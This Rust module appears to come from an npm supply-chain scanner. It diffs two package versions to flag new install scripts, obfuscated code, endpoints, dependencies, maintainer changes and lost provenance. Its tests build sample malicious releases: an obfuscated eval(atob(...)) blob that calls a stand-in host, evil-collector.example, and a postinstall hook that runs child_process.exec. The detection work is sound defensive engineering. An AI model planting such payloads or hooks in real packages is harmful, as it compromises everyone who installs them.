//! Version diff: what a new release adds compared with the previous one. A patch release
//! that adds an obfuscated blob to an entry file, a new install script, a new endpoint,
//! a new dependency, a different maintainer or a publish without provenance after
//! releases with it: that is what the chalk/debug and many token-theft incidents looked
//! like. Registry facts come from the caller ([`RegistryMeta`]) so this needs no network.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::manifest::LIFECYCLE;
use crate::{ids, scan_dir, ScanOptions, ScanReport, Signal, StaticError};

/// Signal ids of the diff (kept beside the others in spirit; never rename).
pub mod diff_ids {
    pub const NEW_INSTALL_SCRIPT: &str = "diff-new-install-script";
    pub const NEW_OBFUSCATED_FILE: &str = "diff-new-obfuscated-file";
    pub const NEW_ENDPOINT: &str = "diff-new-endpoint";
    pub const NEW_DEPENDENCY: &str = "diff-new-dependency";
    pub const MAINTAINER_CHANGE: &str = "diff-maintainer-change";
    pub const PROVENANCE_DROPPED: &str = "diff-provenance-dropped";
}

/// Code signals that mark a file as obfuscated or payload-carrying.
const OBFUSCATION_IDS: &[&str] = &[
    ids::OBFUSCATED,
    ids::HEX_IDENTIFIERS,
    ids::STRING_ARRAY_ROTATION,
    ids::OBFUSCATOR_PATTERN,
    ids::DECODE_EVAL,
    ids::HIGH_ENTROPY,
    ids::BASE64_BLOB,
    ids::HEX_BLOB,
    ids::LONG_LINE,
    ids::WHITESPACE_PADDING,
    ids::ESCAPED_STRINGS,
    ids::WALLET_REGEX,
    ids::WALLET_HOOK,
];

/// Registry facts per version, filled by the caller from the packument.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct RegistryMeta {
    /// Maintainer (publisher) names per version.
    pub maintainers: BTreeMap<String, Vec<String>>,
    /// Whether each version was published with provenance (npm attestations).
    pub has_provenance: BTreeMap<String, bool>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileChange {
    pub path: String,
    pub old_size: Option<u64>,
    pub new_size: Option<u64>,
}

/// What changed between two unpacked versions.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DiffSummary {
    pub added: Vec<FileChange>,
    pub removed: Vec<FileChange>,
    pub changed: Vec<FileChange>,
    pub new_install_scripts: Vec<String>,
    pub new_obfuscated_files: Vec<String>,
    pub new_endpoints: Vec<String>,
    pub new_dependencies: Vec<String>,
    pub maintainer_change: Option<String>,
    pub provenance_dropped: bool,
    /// The findings above as `static` signals (for the trace).
    pub signals: Vec<Signal>,
}

fn file_hashes(root: &Path) -> Result<BTreeMap<String, (u64, [u8; 32])>, StaticError> {
    let mut files = Vec::new();
    crate::collect_files(root, root, &mut files)?;
    let mut out = BTreeMap::new();
    for (rel, path, size) in files {
        let bytes = std::fs::read(&path).map_err(|source| StaticError::Io {
            path: path.clone(),
            source,
        })?;
        out.insert(rel, (size, Sha256::digest(&bytes).into()));
    }
    Ok(out)
}

fn read_manifest(root: &Path) -> Value {
    std::fs::read_to_string(root.join("package.json"))
        .ok()
        .and_then(|s| serde_json::from_str(&s).ok())
        .unwrap_or(Value::Null)
}

fn obfuscation_by_file(r: &ScanReport) -> HashMap<&str, BTreeSet<&str>> {
    let mut m: HashMap<&str, BTreeSet<&str>> = HashMap::new();
    for s in &r.signals {
        if OBFUSCATION_IDS.contains(&s.signal.as_str()) {
            m.entry(s.file.as_str())
                .or_default()
                .insert(s.signal.as_str());
        }
    }
    m
}

fn endpoints(r: &ScanReport) -> BTreeMap<String, &Signal> {
    let mut m = BTreeMap::new();
    for s in &r.signals {
        let key = match s.signal.as_str() {
            x if x == ids::ENDPOINT_URL => {
                crate::code::url_host(&s.detail).unwrap_or_else(|| s.detail.clone())
            }
            x if x == ids::ENDPOINT_IP => s.detail.split(' ').next().unwrap_or("").to_string(),
            _ => continue,
        };
        m.entry(key).or_insert(s);
    }
    m
}

/// Compares the package unpacked at `old` with the one at `new`. `versions` names the
/// (old, new) versions to look up in `meta`.
pub fn diff_dirs(
    old: &Path,
    new: &Path,
    opts: &ScanOptions,
    meta: Option<(&RegistryMeta, &str, &str)>,
) -> Result<DiffSummary, StaticError> {
    let mut d = DiffSummary::default();
    let (oh, nh) = (file_hashes(old)?, file_hashes(new)?);
    for (p, (size, hash)) in &nh {
        match oh.get(p) {
            None => d.added.push(FileChange {
                path: p.clone(),
                old_size: None,
                new_size: Some(*size),
            }),
            Some((os, oh)) if oh != hash => d.changed.push(FileChange {
                path: p.clone(),
                old_size: Some(*os),
                new_size: Some(*size),
            }),
            _ => {}
        }
    }
    for (p, (size, _)) in &oh {
        if !nh.contains_key(p) {
            d.removed.push(FileChange {
                path: p.clone(),
                old_size: Some(*size),
                new_size: None,
            });
        }
    }

    let (om, nm) = (read_manifest(old), read_manifest(new));
    for hook in LIFECYCLE {
        let o = om
            .get("scripts")
            .and_then(|s| s.get(*hook))
            .and_then(Value::as_str);
        if let Some(n) = nm
            .get("scripts")
            .and_then(|s| s.get(*hook))
            .and_then(Value::as_str)
        {
            if o != Some(n) {
                let what = if o.is_some() { "changed" } else { "new" };
                d.new_install_scripts.push(format!("{hook}: {n}"));
                d.signals.push(Signal::new(
                    diff_ids::NEW_INSTALL_SCRIPT,
                    "package.json",
                    None,
                    format!("{what} {hook} script: {n}"),
                ));
            }
        }
    }
    for section in ["dependencies", "optionalDependencies", "peerDependencies"] {
        let Some(deps) = nm.get(section).and_then(Value::as_object) else {
            continue;
        };
        for (name, spec) in deps {
            let known = ["dependencies", "optionalDependencies", "peerDependencies"]
                .iter()
                .any(|s| om.get(*s).and_then(|d| d.get(name)).is_some());
            if !known {
                let spec = spec.as_str().unwrap_or("");
                d.new_dependencies.push(format!("{name}@{spec}"));
                d.signals.push(
                    Signal::new(
                        diff_ids::NEW_DEPENDENCY,
                        "package.json",
                        None,
                        format!("{section} {name}: {spec}"),
                    )
                    .with_value(if section == "optionalDependencies" {
                        1.0
                    } else {
                        0.0
                    }),
                );
            }
        }
    }

    let (or, nr) = (scan_dir(old, opts)?, scan_dir(new, opts)?);
    let (oo, no) = (obfuscation_by_file(&or), obfuscation_by_file(&nr));
    let mut files: Vec<_> = no.iter().collect();
    files.sort();
    for (file, sigs) in files {
        let before = oo.get(file);
        let fresh: Vec<&str> = sigs
            .iter()
            .copied()
            .filter(|s| before.is_none_or(|b| !b.contains(s)))
            .collect();
        if !fresh.is_empty() {
            d.new_obfuscated_files.push(file.to_string());
            d.signals.push(
                Signal::new(
                    diff_ids::NEW_OBFUSCATED_FILE,
                    file,
                    None,
                    format!(
                        "{} {file} now shows: {}",
                        if before.is_some() {
                            "changed"
                        } else {
                            "new or clean before:"
                        },
                        fresh.join(", ")
                    ),
                )
                .with_value(fresh.len() as f64),
            );
        }
    }
    let (oe, ne) = (endpoints(&or), endpoints(&nr));
    for (key, s) in &ne {
        if !oe.contains_key(key) {
            d.new_endpoints.push(key.clone());
            d.signals.push(Signal::new(
                diff_ids::NEW_ENDPOINT,
                &s.file,
                s.line,
                format!("new endpoint {key}: {}", s.detail),
            ));
        }
    }

    if let Some((meta, ov, nv)) = meta {
        if let (Some(a), Some(b)) = (meta.maintainers.get(ov), meta.maintainers.get(nv)) {
            let a: BTreeSet<_> = a.iter().collect();
            let b: BTreeSet<_> = b.iter().collect();
            let added: Vec<_> = b.difference(&a).map(|s| s.as_str()).collect();
            if !added.is_empty() {
                let msg = format!(
                    "{nv} published by new maintainer(s) {} (had {})",
                    added.join(", "),
                    a.into_iter()
                        .map(String::as_str)
                        .collect::<Vec<_>>()
                        .join(", ")
                );
                d.maintainer_change = Some(msg.clone());
                d.signals.push(Signal::new(
                    diff_ids::MAINTAINER_CHANGE,
                    "package.json",
                    None,
                    msg,
                ));
            }
        }
        let earlier_with = meta.has_provenance.iter().any(|(v, p)| {
            *p && v != nv && crate::audit::cmp_version(v, nv) == std::cmp::Ordering::Less
        });
        if earlier_with && meta.has_provenance.get(nv) == Some(&false) {
            d.provenance_dropped = true;
            d.signals.push(Signal::new(
                diff_ids::PROVENANCE_DROPPED,
                "package.json",
                None,
                format!("{nv} was published without provenance after releases with provenance"),
            ));
        }
    }
    Ok(d)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        std::fs::write(p, text).expect("write");
    }

    const CLEAN: &str = "'use strict';\nmodule.exports = function color(s) { return '\\u001b[31m' + s + '\\u001b[39m'; };\n";

    /// The chalk/debug shape: a patch release appends an obfuscated payload to the entry.
    #[test]
    fn patch_release_adding_obfuscated_blob() {
        let (a, b) = (
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
        );
        let manifest = |v: &str, extra: &str| {
            format!("{{\"name\":\"colorish\",\"version\":\"{v}\",\"main\":\"index.js\"{extra}}}\n")
        };
        write(a.path(), "package.json", &manifest("1.0.0", ""));
        write(a.path(), "index.js", CLEAN);
        write(a.path(), "README.md", "# colorish\n");
        write(
            b.path(),
            "package.json",
            &manifest("1.0.1", ",\"dependencies\":{\"helper\":\"^1.0.0\"}"),
        );
        write(b.path(), "README.md", "# colorish\n");
        let ids: String = (0..12)
            .map(|i| format!("var _0x{:04x}{i}=_0x1a2b[{i}];", 0x3f00 + i))
            .collect();
        let payload = format!(
            "{CLEAN}const _0x1a2b=['a','b','c','d','e','f','g','h','i','j','k','l'];{ids}\neval(atob(_0x1a2b.join('')));fetch('https://evil-collector.example/p');\n"
        );
        write(b.path(), "index.js", &payload);
        let meta = RegistryMeta {
            maintainers: BTreeMap::from([
                ("1.0.0".into(), vec!["alice".into()]),
                ("1.0.1".into(), vec!["alice".into(), "mallory".into()]),
            ]),
            has_provenance: BTreeMap::from([("1.0.0".into(), true), ("1.0.1".into(), false)]),
        };
        let d = diff_dirs(
            a.path(),
            b.path(),
            &ScanOptions::default(),
            Some((&meta, "1.0.0", "1.0.1")),
        )
        .expect("diff");
        assert_eq!(d.new_obfuscated_files, vec!["index.js".to_string()]);
        assert_eq!(d.new_endpoints, vec!["evil-collector.example".to_string()]);
        assert_eq!(d.new_dependencies, vec!["helper@^1.0.0".to_string()]);
        assert!(d.new_install_scripts.is_empty());
        assert_eq!(
            d.changed
                .iter()
                .map(|c| c.path.as_str())
                .collect::<Vec<_>>(),
            vec!["index.js", "package.json"]
        );
        assert!(d.added.is_empty() && d.removed.is_empty());
        assert!(d
            .maintainer_change
            .as_deref()
            .is_some_and(|m| m.contains("mallory")));
        assert!(d.provenance_dropped);
        let sig: BTreeSet<&str> = d.signals.iter().map(|s| s.signal.as_str()).collect();
        for id in [
            diff_ids::NEW_OBFUSCATED_FILE,
            diff_ids::NEW_ENDPOINT,
            diff_ids::NEW_DEPENDENCY,
            diff_ids::MAINTAINER_CHANGE,
            diff_ids::PROVENANCE_DROPPED,
        ] {
            assert!(sig.contains(id), "{id} missing: {sig:?}");
        }
    }

    #[test]
    fn identical_versions_and_new_install_script() {
        let (a, b) = (
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
        );
        for r in [a.path(), b.path()] {
            write(r, "index.js", CLEAN);
        }
        write(
            a.path(),
            "package.json",
            "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}",
        );
        write(
            b.path(),
            "package.json",
            "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node setup.js\"}}",
        );
        write(
            b.path(),
            "setup.js",
            "require('child_process').exec('id');\n",
        );
        let d = diff_dirs(a.path(), b.path(), &ScanOptions::default(), None).expect("diff");
        assert_eq!(
            d.new_install_scripts,
            vec!["postinstall: node setup.js".to_string()]
        );
        assert_eq!(d.added.len(), 1);
        assert!(
            d.new_obfuscated_files.is_empty()
                && d.new_endpoints.is_empty()
                && !d.provenance_dropped
        );
        let same = diff_dirs(a.path(), a.path(), &ScanOptions::default(), None).expect("diff");
        assert!(same.signals.is_empty() && same.changed.is_empty());
    }
}
